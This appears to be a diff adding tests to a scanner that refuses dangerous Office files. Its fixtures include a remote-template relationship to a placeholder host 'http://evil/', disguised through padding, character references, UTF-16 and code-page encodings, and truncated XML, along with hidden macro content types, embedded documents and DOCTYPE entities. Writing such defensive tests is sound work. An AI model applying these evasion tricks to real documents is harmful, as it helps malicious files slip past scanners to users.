@@ -164,6 +164,50 @@ describe('S26: office files are looked into before they are opened', () => {
   ])('%s is refused', async (_what, parts, code) => {
     expect((await refusal(altered(xlsx, parts), 'a.xlsx', OFFICE)).code).toBe(code);
   });
+  const rels = (attributes: string, filling = '') =>
+    `<Relationships>${filling}<Relationship Id="r" ${attributes}/></Relationships>`;
+  const outside = 'Type="http://x/attachedTemplate" Target="http://evil/" TargetMode="External"';
+  const macroType =
+    '<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>';
+  const long = ' '.repeat(4_300_000);
+  it.each<[string, string, string | Uint8Array, string]>([
+    ['behind padding', 'word/_rels/document.xml.rels', rels(outside, long), 'broken'],
+    ['as a character reference', 'word/_rels/a.xml.rels', rels(outside.replace('E', '&#69;')), 'links'],
+    ['behind a > in an attribute', 'word/_rels/a.xml.rels', rels(`Note="r>1" ${outside}`), 'links'],
+    ['in UTF-16', 'word/_rels/a.xml.rels', Buffer.from(`\ufeff${rels(outside)}`, 'utf16le'), 'broken'],
+    ['in UTF-16 without its mark', 'word/_rels/a.xml.rels', Buffer.from(rels(outside), 'utf16le'), 'broken'],
+    ['in a code page', 'word/_rels/a.xml.rels', `<?xml version="1.0" encoding="IBM037"?>${rels(outside)}`, 'broken'],
+    ['in half an XML', 'word/_rels/a.xml.rels', rels(outside).slice(0, -1), 'links'],
+    ['nowhere, in half an XML', 'word/_rels/a.xml.rels', '<Relationships><Relationship Id="r"/>', 'broken'],
+    ['to a file inside', 'word/_rels/a.xml.rels', rels('Type="http://x/package" Target="a.bin"'), 'macro'],
+  ])('S26 a relationship outside %s is refused', async (_what, name, bytes, code) => {
+    const parts = { [name]: typeof bytes === 'string' ? strToU8(bytes) : new Uint8Array(bytes) };
+    expect((await refusal(altered(docx, parts), 'a.docx', OFFICE)).code).toBe(code);
+  });
+  it.each<[string, string, string, string]>([
+    ['a macro under another name', '[Content_Types].xml', macroType, 'macro'],
+    [
+      'content types too long to read',
+      '[Content_Types].xml',
+      macroType.replace('<Override', `${long}<Override`),
+      'broken',
+    ],
+    ['an embedded document', 'word/embeddings/a.docm', 'PK', 'macro'],
+    ['an embedded workbook', 'word/embeddings/a.xlsx', 'PK', 'macro'],
+    ['an entity far down', 'word/x.xml', `<!--${long}--><!DOCTYPE a [<!ENTITY b "c">]><a/>`, 'broken'],
+    ['letters that are not UTF-8 far down', 'word/x.xml', `<a>${long}`, 'broken'],
+  ])('S26 %s is refused', async (_what, name, text, code) => {
+    const bytes = text.startsWith('<a>')
+      ? Buffer.concat([Buffer.from(text), Buffer.from([0xe0, 0x3c])])
+      : strToU8(text);
+    expect((await refusal(altered(docx, { [name]: bytes }), 'a.docx', OFFICE)).code).toBe(code);
+  });
+  it('S26 drawings as Office writes them, not quite XML, are harmless', async () => {
+    const vml = strToU8('<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><br>Ý kiến</v:textbox></xml>');
+    expect(await look(altered(xlsx, { 'xl/drawings/vmlDrawing1.vml': vml }), 'a.xlsx', OFFICE)).toMatchObject({
+      ok: true,
+    });
+  });
   it('more than 2,000 parts are refused', async () => {
     const parts: Zippable = {};
     for (let number = 0; number < 2001; number += 1) parts[`xl/media/${number}.png`] = new Uint8Array(1);
